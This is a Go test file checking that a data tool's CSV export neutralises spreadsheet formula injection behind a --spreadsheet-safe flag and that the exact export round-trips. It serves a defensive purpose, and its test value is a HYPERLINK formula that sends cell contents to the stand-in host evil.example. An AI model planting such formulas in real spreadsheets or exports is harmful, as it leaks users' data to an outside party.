package main

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"os"
	"path/filepath"
	"slices"
	"testing"

	"haven/internal/testpg"
)

// TestExportSpreadsheetSafe checks, on both engines, that a CSV export keeps
// a formula-like name exactly by default, and puts it behind a ' with
// --spreadsheet-safe.
func TestExportSpreadsheetSafe(t *testing.T) {
	testpg.EachEngine(t, func(t *testing.T, e testpg.Engine) { exportSpreadsheetSafe(t, e.Fresh(t)) })
}

func exportSpreadsheetSafe(t *testing.T, db string) {
	const formula = `=HYPERLINK("https://evil.example/?x="&A1,"Open")`
	dir := t.TempDir()
	in := filepath.Join(dir, "s.ndjson")
	MustRunMain(t, "", "sample", "--services", "3", "--out", in)
	lines := bytes.Split(bytes.TrimSpace(mustRead(t, in)), []byte("\n"))
	var svc map[string]any
	if err := json.Unmarshal(lines[0], &svc); err != nil {
		t.Fatal(err)
	}
	svc["name"] = formula
	lines[0], _ = json.Marshal(svc)
	if err := os.WriteFile(in, append(bytes.Join(lines, []byte("\n")), '\n'), 0o644); err != nil {
		t.Fatal(err)
	}
	MustRunMain(t, db, "import", in)

	names := func(folder string) []string {
		rows, err := csv.NewReader(bytes.NewReader(mustRead(t, filepath.Join(folder, "services.csv")))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		col := slices.Index(rows[0], "name")
		var out []string
		for _, r := range rows[1:] {
			out = append(out, r[col])
		}
		return out
	}
	exact, safe := filepath.Join(dir, "exact"), filepath.Join(dir, "safe")
	MustRunMain(t, db, "export", "--format", "csv", "--out", exact)
	MustRunMain(t, db, "export", "--format", "csv", "--spreadsheet-safe", "--out", safe)
	if n := names(exact); !slices.Contains(n, formula) {
		t.Errorf("the default export changed the name: %q", n)
	}
	if n := names(safe); !slices.Contains(n, "'"+formula) || slices.Contains(n, formula) {
		t.Errorf("--spreadsheet-safe left the formula runnable: %q", n)
	}
	// The default export imports back exactly: export, import, export.
	db2 := filepath.Join(dir, "back.db")
	MustRunMain(t, db2, "import", exact)
	again := filepath.Join(dir, "again")
	MustRunMain(t, db2, "export", "--format", "csv", "--out", again)
	if !bytes.Equal(mustRead(t, filepath.Join(exact, "services.csv")), mustRead(t, filepath.Join(again, "services.csv"))) {
		t.Error("the exact CSV export did not import back unchanged")
	}
	if _, err := runMain(db, "export", "--format", "json", "--spreadsheet-safe", "--out", filepath.Join(dir, "x.json")); err == nil {
		t.Error("--spreadsheet-safe with json was accepted")
	}
}
